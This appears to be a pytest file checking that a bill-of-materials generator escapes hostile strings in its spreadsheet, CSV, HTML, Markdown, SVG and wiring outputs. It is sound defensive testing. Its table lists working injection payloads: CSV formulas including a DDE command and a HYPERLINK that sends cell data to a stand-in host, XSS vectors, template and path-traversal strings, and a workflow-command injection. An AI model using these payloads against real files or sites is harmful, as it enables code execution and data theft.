"""Hostile text that is built: it stands in every output as the text that it is, in that format's harmless form.

One plan has every text of the table in it, as a line of terms and as the name of other machines, which quotes, bills,
drawings and lists of cables show. It is built once; each text is then looked for in each output.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import xml.etree.ElementTree as ElementTree
from contextlib import chdir
from pathlib import Path

import pytest
from cases import BASE
from click.testing import CliRunner
from openpyxl import load_workbook

from bomgen.cli.command import main

# The text, and what bom.csv and the Markdown make of it.
TEXTS = {
    "formula": ("=1+1", "'=1+1", "=1+1"),
    "formula-plus": ("+1+1", "'+1+1", "+1+1"),
    "formula-minus": ("-1+1", "'-1+1", "-1+1"),
    "formula-at": ("@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"),
    "formula-dde": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "=cmd\\|' /C calc'!A0"),
    "formula-hyperlink": (
        '=HYPERLINK("http://x.example/?"&A1)',
        '\'=HYPERLINK("http://x.example/?"&A1)',
        '=HYPERLINK("http://x.example/?"&A1)',
    ),
    "formula-full-width": ("＝1+1", "'＝1+1", "＝1+1"),
    "formula-behind-a-semicolon": ("a;=1+1", "a;'=1+1", "a;=1+1"),
    "formula-behind-quotes": ('",=1+1,"', '",=1+1,"', '",=1+1,"'),
    "formula-of-a-lookup": ("=WEBSERVICE(1)", "'=WEBSERVICE(1)", "=WEBSERVICE(1)"),
    "script": ("<script>alert(1)</script>", "<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    "image": ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
    "end-of-attribute": (
        "\"'><svg onload=alert(1)>",
        "\"'><svg onload=alert(1)>",
        "\"'&gt;&lt;svg onload=alert(1)&gt;",
    ),
    "end-of-script": ("</script><b>x", "</script><b>x", "&lt;/script&gt;&lt;b&gt;x"),
    "end-of-style": ("</style><b>x", "</style><b>x", "&lt;/style&gt;&lt;b&gt;x"),
    "comment": ("<!-- x", "<!-- x", "&lt;!-- x"),
    "data-of-xml": ("<![CDATA[x]]>", "<![CDATA[x]]>", "&lt;!\\[CDATA\\[x\\]\\]&gt;"),
    "entity": ("&lt;blink&gt;", "&lt;blink&gt;", "&amp;lt;blink&amp;gt;"),
    "link": ("[x](javascript:alert(1))", "[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
    "picture": ("![x](http://x.example)", "![x](http://x.example)", "!\\[x\\](http://x.example)"),
    "code": ("`x`", "`x`", "\\`x\\`"),
    "bold": ("**x**", "**x**", "\\*\\*x\\*\\*"),
    "row-of-a-table": ("a | b | c", "a | b | c", "a \\| b \\| c"),
    "heading": ("# x", "# x", "\\# x"),
    "template": ("{{ 7 * 7 }}{% raw %}", "{{ 7 * 7 }}{% raw %}", "{{ 7 * 7 }}{% raw %}"),
    "mathematics": ("$\\frac{1}{2}$", "$\\frac{1}{2}$", "&#36;\\\\frac{1}{2}&#36;"),
    "label-of-a-graph": ('"]; x -- y [label="\\N', '"]; x -- y [label="\\N', '"\\]; x -- y \\[label="\\\\N'),
    "footer-of-a-sheet": ("&C&D&F", "&C&D&F", "&C&D&F"),
    "path": ("../../a", "../../a", "../../a"),
    "chinese": ("集群", "集群", "集群"),
    "persian-with-a-non-joiner": ("می\u200cخواهم", "می\u200cخواهم", None),
    "hebrew-with-a-mark": ("שלום (x)\u200f", "שלום (x)\u200f", None),
    "hindi-with-a-joiner": ("क्\u200dष", "क्\u200dष", None),
    "emoji-of-several": ("👩\u200d💻", "👩\u200d💻", None),
    "japanese-with-a-selector": ("葛\U000e0100城", "葛\U000e0100城", None),
    "thai-with-breaks": ("ภาษา\u200bไทย", "ภาษา\u200bไทย", None),
}
SVG = "{http://www.w3.org/2000/svg}"


class Built:
    """What came of the plan: files by name."""

    def __init__(self, folder: Path) -> None:
        hosts = [{"name": f"{text} {at}", "count": 1, "ports": 1} for at, (text, *_) in enumerate(TEXTS.values())]
        charges = [{"kind": "other", "name": text, "price": 1} for text, *_ in TEXTS.values()]
        terms = [text for text, *_ in TEXTS.values()]
        quote = {"customer": TEXTS["script"][0], "terms": terms, "charges": charges}
        text = BASE + f"title: {json.dumps(TEXTS['formula'][0])}\nquote: {json.dumps(quote, ensure_ascii=False)}\n"
        text += f"fabrics: {{storage: {{switch: qm9700, hosts: {json.dumps(hosts, ensure_ascii=False)}}}}}\n"
        (folder / "plan.yaml").write_text(text, encoding="utf-8")
        run = CliRunner()
        with chdir(folder):
            formats = "md,html,xlsx,json,csv,svg"
            built = run.invoke(main, ["build", "plan.yaml", "-f", formats], catch_exceptions=False)
            assert built.exit_code == 0, built.stderr
            for form in ("csv", "dot"):
                made = run.invoke(main, ["wiring", "plan.yaml", "-f", form, "-o", f"wiring.{form}"])
                assert made.exit_code == 0, made.stderr
        self.said = built.stdout + built.stderr
        self.files = {path.name: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
        self.sheets = load_workbook(io.BytesIO(self.files["report.xlsx"]))

    def text(self, name: str) -> str:
        """A file as text."""
        return self.files[name].decode("utf-8")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """The one plan with all texts."""
    return Built(tmp_path_factory.mktemp("hostile"))


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_text_stays_text(name: str, built: Built) -> None:
    """It is a string cell, a guarded field, escaped markup, quoted words: in each output what it was in the plan."""
    text, field, marked = TEXTS[name]
    cells = [cell for sheet in built.sheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
    assert field in {value for row in csv.reader(io.StringIO(built.text("bom.csv"))) for value in row}
    assert text in (line["description"] for line in json.loads(built.text("bom.json"))["lines"])
    assert html.escape(text, quote=False) in built.text("report.html").replace("&#34;", '"').replace("&#39;", "'")
    if marked:
        assert marked in built.text("report.md")


@pytest.mark.parametrize("name", [name for name, (text, *_) in TEXTS.items() if set(text) & set("<&\"'")])
def test_markup_is_nowhere_as_it_was_written(name: str, built: Built) -> None:
    """No output that a browser reads has the text unescaped."""
    text = TEXTS[name][0]
    if set(text) & set("<&"):
        for file in [each for each in built.files if each.endswith((".html", ".svg"))]:
            assert text not in built.text(file), file
    if '"' in text:
        for file in [each for each in built.files if each.endswith(".dot")]:
            assert text not in built.text(file), file


def test_drawings_are_xml_without_script(built: Built) -> None:
    """An SVG that a parser of XML reads, without scripts, handlers, links or foreign content."""
    for name in [each for each in built.files if each.endswith(".svg")]:
        for element in ElementTree.fromstring(built.text(name)).iter():  # noqa: S314 - of our own making
            assert element.tag in {
                f"{SVG}{each}"
                for each in (
                    "svg",
                    "title",
                    "desc",
                    "g",
                    "path",
                    "rect",
                    "text",
                    "tspan",
                    "line",
                    "circle",
                    "style",
                    "polyline",
                    "polygon",
                    "defs",
                )
            }
            assert not [key for key in element.attrib if key.startswith("on") or "href" in key]


def test_the_page_runs_one_script_and_fetches_nothing(built: Built) -> None:
    """Its security policy lets in the one script whose hash it names, and no address is loaded."""
    page = built.text("report.html")
    assert len(re.findall("<script", page)) == 1
    assert "default-src 'none'" in page
    assert not re.findall(r"\s(?:src|href)=[\"']?https?://x\.example", page)


def test_every_field_of_every_csv_is_guarded(built: Built) -> None:
    """No field begins what a spreadsheet would run (OWASP, CSV Injection), whichever separator it takes."""
    for name in ("bom.csv", "wiring.csv"):
        for separator in (",", ";", "\t"):
            for row in csv.reader(io.StringIO(built.text(name)), delimiter=separator):
                assert not [each for each in row if re.match("[=+@\t\r\n＝＋－＠]|-(?![0-9.]+$)", each)], name


def test_a_workflow_command_is_text(tmp_path: Path) -> None:
    """A key that looks like a workflow command is a message of one line, its own signs written as GitHub asks for."""
    (tmp_path / "plan.yaml").write_text(BASE + '"::error::a%0A\\n::set-output name=x::y": 1\n', encoding="utf-8")
    with chdir(tmp_path):
        said = CliRunner().invoke(main, ["check", "plan.yaml", "--format", "github"]).stdout
    (line,) = said.splitlines()
    assert line.startswith(
        "::error file=plan.yaml,line=4,col=1::unknown key '::error::a%250A%0A::set-output name=x::y'"
    )
